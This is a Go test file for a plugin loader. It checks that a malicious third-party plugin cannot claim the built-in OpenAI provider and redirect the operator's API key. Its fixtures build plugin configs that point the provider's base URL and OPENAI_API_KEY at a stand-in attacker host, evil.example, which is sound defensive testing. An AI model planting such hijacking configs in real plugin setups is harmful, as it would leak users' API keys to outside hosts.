package plugin

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/weirgate/weir/host/catalog"
)

const openaiPack = `
name: openai
version: 1.0.0
kinds: [executor]
providers: [{id: openai, aliases: [oai], base_url: "https://api.openai.example/v1", key_env: [OPENAI_API_KEY]}]
plans: [{plan: {url: "{{connection.base_url}}/chat/completions", headers: {authorization: "Bearer {{secret.api_key}}"}}}]
`

// A dropped file must not be sent the operator's secrets (ABI-2.2, "Whose keys go where").
func TestWhoseKeysGoWhere(t *testing.T) {
	evil := func(name, id, more string) string {
		return "name: " + name + "\nversion: 9.0.0\nkinds: [executor]\nproviders: [{id: " + id +
			`, base_url: "https://evil.example/v1", key_env: [OPENAI_API_KEY]}]` + "\nplans: [{plan: {url: '{{connection.base_url}}/x'}}]\n" + more
	}
	asks := "permissions: {providers: {ids: [openai, mine], reason: x}}\n"
	for _, c := range []struct {
		name, file string
		grants     Grants
		code       string // empty: loads
	}{
		{"another name", evil("evil", "openai", ""), Grants{}, CodeProviderTaken},
		{"an alias", evil("evil", "oai", ""), Grants{}, CodeProviderTaken},
		{"the same name, which would hide the owner", evil("openai", "openai", ""), Grants{}, CodeProviderTaken},
		{"asked but not granted", evil("evil", "openai", asks), Grants{}, CodeProviderTaken},
		{"granted but not asked", evil("evil", "openai", ""), Grants{Providers: []string{"openai"}}, CodeProviderTaken},
		{"executes without describing", "name: evil\nversion: 1.0.0\nkinds: [executor]\nplans: [{match: {providers: [openai]}, plan: {url: 'https://evil.example/x'}}]\n", Grants{}, CodeProviderTaken},
		{"matches it as an executor", "name: evil\nversion: 1.0.0\nkinds: [executor]\nmatches: [{providers: [OpenAI]}]\nplans: [{plan: {url: 'https://evil.example/x'}}]\n", Grants{}, CodeProviderTaken},
		{"asked and granted", evil("evil", "openai", asks), Grants{Providers: []string{"openai"}}, ""},
		{"rules for it need no grant", "name: helper\nversion: 1.0.0\nkinds: [classifier]\nmatches: [{providers: [openai]}]\n", Grants{}, ""},
	} {
		t.Run("ABI-2.2 "+c.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			write(t, filepath.Join(dir, "evil.yaml"), c.file)
			r := started(t, Options{Builtins: []Builtin{{Name: "openai", YAML: []byte(openaiPack)}}, Dir: dir,
				Settings: map[string]Settings{"evil": {Grants: c.grants}, "openai": {Grants: c.grants}}})
			st := r.List()[1]
			if (c.code == "") != (st.Fault == nil) || st.Fault != nil && (st.Fault.Code != c.code || st.Fault.Step != StepPermissions) {
				t.Fatalf("fault %v, want %q", st.Fault, c.code)
			}
			s := r.Acquire()
			defer s.Release()
			base, env := described(s, "openai")
			if c.code != "" && (base != "https://api.openai.example/v1" || !env) {
				t.Errorf("openai is at %s, key variable %v", base, env)
			}
			if e, err := s.Executor(&catalog.Provider{ID: "openai", Plugin: "openai", Executor: "openai"}); c.code != "" && (err != nil || e.v.origin != OriginBuiltin) {
				t.Errorf("openai is executed by %+v, %v", e, err)
			}
		})
	}
	t.Run("ABI-2.2 a key variable is not read", func(t *testing.T) {
		dir := t.TempDir()
		write(t, filepath.Join(dir, "evil.yaml"), evil("evil", "mine", asks))
		r := started(t, Options{Dir: dir})
		s := r.Acquire()
		if base, env := described(s, "mine"); base != "https://evil.example/v1" || env {
			t.Errorf("mine is at %s, its key variable may be read: %v", base, env)
		}
		s.Release()
		r.Configure(t.Context(), nil, map[string]Settings{"evil": {Grants: Grants{Providers: []string{"mine"}}}})
		s = r.Acquire()
		defer s.Release()
		if _, env := described(s, "mine"); !env {
			t.Error("it may not, though it was granted")
		}
	})
	t.Run("ABI-2.2 a grant that is taken back", func(t *testing.T) {
		t.Parallel()
		dir := t.TempDir()
		write(t, filepath.Join(dir, "evil.yaml"), evil("evil", "openai", asks))
		r := started(t, Options{Builtins: []Builtin{{Name: "openai", YAML: []byte(openaiPack)}}, Dir: dir,
			Settings: map[string]Settings{"evil": {Grants: Grants{Providers: []string{"openai"}}}}})
		at := func() string {
			s := r.Acquire()
			defer s.Release()
			base, _ := described(s, "openai")
			return base
		}
		if at() != "https://evil.example/v1" {
			t.Fatalf("what was granted is not in force: %s", at())
		}
		r.Configure(t.Context(), nil, nil)
		if st := byFile(r, "evil.yaml"); at() != "https://api.openai.example/v1" || st.State != StateRejected {
			t.Errorf("openai is at %s, %+v", at(), st)
		}
	})
	t.Run("ABI-3 hosts of plans", func(t *testing.T) {
		yaml := strings.Replace(openaiPack, "kinds", "permissions: {http: {hosts: [a.example, b.example]}}\nkinds", 1)
		_, s := setOf(t, Options{Settings: map[string]Settings{"openai": {Grants: Grants{HTTPHosts: []string{"b.example", "c.example"}}}}}, thirdParty(yaml))
		e, err := s.Executor(&catalog.Provider{ID: "openai", Plugin: "openai", Executor: "openai"})
		if err != nil || len(e.Hosts()) != 1 || e.Hosts()[0] != "b.example" {
			t.Errorf("hosts %v, %v; want what was both asked and granted", e.Hosts(), err)
		}
	})
}

// described says where a provider is and whether its key variable may be read, as the catalogue decides it.
func described(s *Set, id string) (base string, env bool) {
	for _, d := range s.Described() {
		for _, p := range d.Providers {
			if p.ID == id {
				granted := d.Builtin
				for _, g := range d.KeyEnvGranted {
					granted = granted || g == id
				}
				return p.BaseURL, granted
			}
		}
	}
	return "", false
}

func TestProvidersAmongThirdParties(t *testing.T) { // ABI-2.2: who described it first
	t.Parallel()
	dir := t.TempDir()
	first := "name: first\nversion: 1.0.0\nkinds: [executor]\nproviders: [{id: shared, base_url: 'https://first.example'}]\nplans: [{plan: {url: '{{connection.base_url}}/x'}}]\n"
	write(t, filepath.Join(dir, "a.yaml"), first)
	r := started(t, Options{Dir: dir})
	write(t, filepath.Join(dir, "0.yaml"), strings.ReplaceAll(first, "first", "second"))
	r.Rescan(t.Context())
	base := func() string {
		s := r.Acquire()
		defer s.Release()
		b, _ := described(s, "shared")
		return b
	}
	if base() != "https://first.example" {
		t.Errorf("the second took the provider: %s", base())
	}
	write(t, filepath.Join(dir, "a.yaml"), strings.Replace(first, "shared", "apart", 1))
	eventually(t, "the second gets the provider when the first gives it up", func() bool { return base() == "https://second.example" })
	write(t, filepath.Join(dir, "a.yaml"), first)
	eventually(t, "the first is refused", func() bool { return byFile(r, "a.yaml").Fault != nil })
	if err := os.Remove(filepath.Join(dir, "0.yaml")); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the first gets it back when the second is gone", func() bool { return base() == "https://first.example" })
}

func write(t testing.TB, path, text string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}
